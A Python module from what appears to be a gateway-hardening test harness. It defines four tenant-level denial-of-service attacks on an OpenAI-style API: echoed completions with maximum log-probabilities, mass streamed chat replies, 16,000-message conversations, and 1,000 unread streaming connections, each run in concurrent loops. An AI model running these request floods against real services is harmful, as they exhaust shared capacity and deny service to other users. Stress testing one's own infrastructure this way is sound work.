"""Attacks by one tenant at the OpenAI door: responses of the largest size, long conversations, and unread streams."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncGenerator

from scripts.attack.attack import TENANT, Attack, Target
from scripts.attack.calls import counted, http_head, post, unread

COMPLETIONS, CHAT = "/v1/completions", "/v1/chat/completions"
AT_ONCE = 8
TOP_LOGPROBS = 20
PROMPT_TOKENS, NUM_ECHOES = 900, 13
NUM_REPLIES, NUM_DRAWN = 128, 96
"""A response has almost as many log-probabilities as the door allows: 262,144."""
NUM_MESSAGES, VERSES = 16_000, "In the beginning God created the heaven and the earth. " * 8
"""A conversation has almost as many objects and bytes as the door reads: 16,384 and 8 MiB."""


async def completions_echoed(target: Target) -> AsyncGenerator[None, None]:
    """Complete a prompt of 900 tokens, echoed 13 times with 20 log-probabilities a token, eight at a time."""
    yield
    prompt, num_choices = [10] * PROMPT_TOKENS, target.many(NUM_ECHOES)
    body = {"prompt": prompt, "max_tokens": 1, "n": num_choices, "echo": True, "logprobs": TOP_LOGPROBS}
    await _repeated(target, COMPLETIONS, body)


async def chat_logprobs(target: Target) -> AsyncGenerator[None, None]:
    """Stream 128 replies of 96 tokens with 20 log-probabilities a token, eight streams at a time."""
    yield
    await _repeated(target, CHAT, _streamed(target.many(NUM_REPLIES)))


async def chat_messages(target: Target) -> AsyncGenerator[None, None]:
    """Send conversations of 16,000 messages, eight at a time."""
    yield
    await _repeated(target, CHAT, {"messages": [{"role": "user", "content": VERSES}] * target.many(NUM_MESSAGES)})


async def chat_unread(target: Target) -> AsyncGenerator[None, None]:
    """Begin 1,000 streams of a reply with 20 log-probabilities a token, on connections that are not read."""
    yield
    body = json.dumps({"model": target.model} | _streamed(1)).encode()
    connections = await unread(target, http_head(target, CHAT, len(body)) + body, target.many(1000))
    await asyncio.sleep(target.duration_s)
    yield
    for connection in connections:
        connection.close()


def _streamed(num_replies: int) -> dict[str, object]:
    """Return the fields of streamed replies with as many log-probabilities as a token may have."""
    drawn = {"max_tokens": NUM_DRAWN, "n": num_replies, "logprobs": True, "top_logprobs": TOP_LOGPROBS}
    return {"messages": [{"role": "user", "content": "Speak"}], "stream": True} | drawn


async def _repeated(target: Target, path: str, fields: dict[str, object]) -> None:
    """Send one request again and again, `AT_ONCE` at a time, and read the responses."""
    body = json.dumps({"model": target.model} | fields, separators=(",", ":")).encode()

    async def repeat() -> None:
        while target.is_on():
            await counted(target, post(target, path, body))

    await asyncio.gather(*(repeat() for _ in range(AT_ONCE)))


ATTACKS = (
    Attack(
        name="completions-echoed",
        by=TENANT,
        text="completions that echo 900 tokens 13 times with 20 log-probabilities a token, eight at a time",
        program=completions_echoed,
    ),
    Attack(
        name="chat-logprobs",
        by=TENANT,
        text="chat streams of 128 replies of 96 tokens with 20 log-probabilities a token, eight at a time",
        program=chat_logprobs,
    ),
    Attack(
        name="chat-messages",
        by=TENANT,
        text="conversations of 16,000 messages in 7.5 MB, eight at a time",
        program=chat_messages,
    ),
    Attack(
        name="chat-unread",
        by=TENANT,
        text="1,000 chat streams of a reply with 20 log-probabilities a token, on connections that are not read",
        program=chat_unread,
        is_held=True,
    ),
)
